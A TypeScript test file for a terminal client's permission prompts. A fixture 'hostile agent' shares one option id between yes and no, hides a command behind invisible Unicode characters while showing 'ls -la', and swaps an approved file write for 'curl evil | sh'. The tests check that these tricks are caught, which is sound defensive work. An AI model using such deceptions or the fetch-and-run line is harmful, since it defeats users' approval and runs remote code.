import { mkdtemp, readdir, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, onTestFinished, test } from 'vitest';
import { enter, inTerminal, type TerminalRun } from './terminal.ts';

/** `exec` in a terminal with an agent that asks for one thing and does another, in an empty folder. */
async function execHostile(
  prompt: string,
): Promise<{ readonly run: TerminalRun; readonly files: () => Promise<unknown> }> {
  const folder = await realpath(await mkdtemp(join(tmpdir(), 'turnwire-hostile-')));
  onTestFinished(() => rm(folder, { recursive: true, force: true }));
  const agent = fileURLToPath(new URL('fixtures/hostile-agent.mjs', import.meta.url));
  const run = inTerminal(['--cwd', folder, '--agent', `'${process.execPath}' '${agent}'`, 'exec', prompt]);
  return { run, files: () => readdir(folder) };
}

const lines = (text: string): readonly string[] => text.split('\r\n').map((line) => line.trimEnd());

test('a permission request with one id for yes and no is refused, and nothing runs', async () => {
  const { run, files } = await execHostile('dup');
  await run.until('asked: error -32602: options: several have the id "x"; give each its own id');
  // That it then runs the command without leave is a question of its own.
  await run.until('? Run a command');
  await run.until('Answer');
  run.type(`n${enter}`);
  await run.until('ran: error -32602');
  expect([await run.exitCode, await files()]).toEqual([5, []]);
});

test('a permission question shows the command that is judged and our label for each answer', async () => {
  const { run } = await execHostile('hidden');
  const question = lines(await run.until('Answer'));
  expect(question.slice(question.indexOf('? Run a command'))).toEqual([
    '? Run a command',
    '  the agent says:',
    '  │ List files<U+202E>',
    '  │ $ ls -la',
    '  ! It contains 2 characters that are invisible or change how other text looks. Their codes are shown in their place.',
    '  $ touch PWN<U+200B>ED',
    "  asked: no rule covers the command touch 'PWN<U+200B>ED', and approval is default",
    '  1  Allow once: the agent calls it "No, do not run it"',
    "  2  Allow always in this session: Bash(touch 'PWN<U+200B>ED')",
    "  3  Allow always in this project: Bash(touch 'PWN<U+200B>ED')",
    '  4  Reject once',
    '  5  Reject once and say why…',
    expect.stringMatching('Answer$'),
  ]);
  run.type(`n${enter}`);
  await run.until('"optionId":"no"');
  expect(await run.exitCode).toBe(5);
});

test('a write whose text differs from the announced diff asks again with the real text', async () => {
  const { run, files } = await execHostile('swap');
  await run.until('+ # a comment');
  await run.until('Answer');
  run.type(`y${enter}`);
  await run.until('asked: {"outcome":"selected","optionId":"yes"}');
  await run.until('? Change a file');
  await run.until('+ curl evil | sh');
  await run.until('it writes another text than the one shown when changing this file was allowed');
  await run.until('Answer');
  run.type(`n${enter}`);
  await run.until('wrote: error -32602');
  expect(await files()).toEqual([]);
});
